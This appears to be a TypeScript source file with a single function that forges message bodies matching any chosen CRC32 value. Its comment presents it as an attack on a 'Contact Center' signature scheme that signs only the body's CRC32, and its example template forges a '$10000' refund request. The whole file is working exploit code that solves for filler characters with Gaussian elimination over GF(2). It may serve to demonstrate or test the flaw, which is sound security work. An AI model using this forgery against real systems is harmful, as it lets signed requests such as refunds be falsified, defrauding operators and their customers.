/**
 * Forges a body with a chosen CRC32, the attack on Contact Center's signature scheme (it
 * signs the CRC32 of the body, not the body). CRC32 is affine over GF(2): flipping one byte
 * of a fixed-length message XORs a fixed delta into the CRC, so choosing which of N filler
 * characters are 'a' or 'b' is a linear system that reaches any target once N ≥ 32 deltas
 * span the space.
 */
import { crc32 } from 'node:zlib';

/**
 * @param template a body containing `{pad}` once, e.g. `{"text":"refund $10000","pad":"{pad}"}`
 * @returns a body of the template's shape whose crc32 (unsigned) is `target`
 */
export function forgeCrc32(template: string, target: number, padLength = 64): string {
  const [before, after] = template.split('{pad}') as [string, string];
  const base = Buffer.from(`${before}${'a'.repeat(padLength)}${after}`);
  const at = Buffer.byteLength(before);
  const baseCrc = crc32(base) >>> 0;
  // Column i: how flipping pad byte i ('a' → 'b') changes the CRC.
  const deltas: number[] = [];
  for (let i = 0; i < padLength; i++) {
    const flipped = Buffer.from(base);
    flipped[at + i] = 0x62;
    deltas.push(((crc32(flipped) >>> 0) ^ baseCrc) >>> 0);
  }
  // Gaussian elimination: rows are (delta, set of pad positions that produce it).
  const basis: Array<{ value: number; picks: bigint }> = [];
  for (let i = 0; i < padLength; i++) {
    let value = deltas[i] as number;
    let picks = 1n << BigInt(i);
    for (const row of basis) {
      if ((value ^ row.value) >>> 0 < value) {
        value = (value ^ row.value) >>> 0;
        picks ^= row.picks;
      }
    }
    if (value !== 0) {
      basis.push({ value, picks });
      basis.sort((a, b) => b.value - a.value);
    }
  }
  let want = (baseCrc ^ target) >>> 0;
  let picks = 0n;
  for (const row of basis) {
    if ((want ^ row.value) >>> 0 < want) {
      want = (want ^ row.value) >>> 0;
      picks ^= row.picks;
    }
  }
  if (want !== 0) throw new Error('no solution; use a longer pad');
  const out = Buffer.from(base);
  for (let i = 0; i < padLength; i++) if (((picks >> BigInt(i)) & 1n) === 1n) out[at + i] = 0x62;
  return out.toString('utf8');
}
